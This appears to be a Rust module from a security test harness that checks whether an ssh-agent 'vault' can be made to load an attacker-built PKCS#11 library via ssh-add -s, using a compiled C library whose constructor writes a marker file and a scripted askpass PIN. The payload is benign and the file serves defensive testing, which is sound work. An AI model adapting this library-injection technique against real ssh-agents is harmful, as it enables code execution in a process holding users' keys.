//! Attack e: make the vault's agent load a library. ssh-agent loads any from its allow list, which is
//! the system's library folders as a rule and a folder of the demo's here.

use super::{Outcome, Target, refused};
use crate::demo::agent::ssh_add;
use crate::demo::programs;
use common::error::Error;

/// Writes a file as soon as it is loaded. The name of the function is what ssh-agent looks for.
const LIBRARY: &str = r#"#include <stdio.h>
__attribute__((constructor)) static void loaded(void) {
    FILE *mark = fopen(MARK, "w");
    if (mark) fclose(mark);
}
int C_GetFunctionList(void **list) { return 5; }
"#;

pub(super) fn load_a_library(target: &mut Target<'_>) -> Result<Outcome, Error> {
    let Some(compiler) = programs::find("cc") else {
        return Ok(Outcome::NotTried("not tried: no C compiler".to_owned()));
    };
    let (world, name) = (target.world, target.name);
    let source = world.file("lib/marker.c", LIBRARY)?;
    let library = world.path("lib").join(format!("{name}.so"));
    let mark = world.path("lib").join(format!("{name}.loaded"));
    let mut cc = world.command(compiler);
    cc.args(["-shared", "-fPIC", "-o"]).arg(&library);
    cc.arg(format!("-DMARK=\"{}\"", mark.display())).arg(source);
    world.run(cc)?;
    let askpass = world.script("attacker/pin", "#!/bin/sh\necho 1234\n")?;
    let mut load = ssh_add(world, &target.socket);
    load.arg("-s")
        .arg(&library)
        .env("SSH_ASKPASS", askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":none");
    world.finish(load)?;
    Ok(if mark.exists() {
        Outcome::Reached("code ran in the vault".to_owned())
    } else {
        refused("did not run")
    })
}
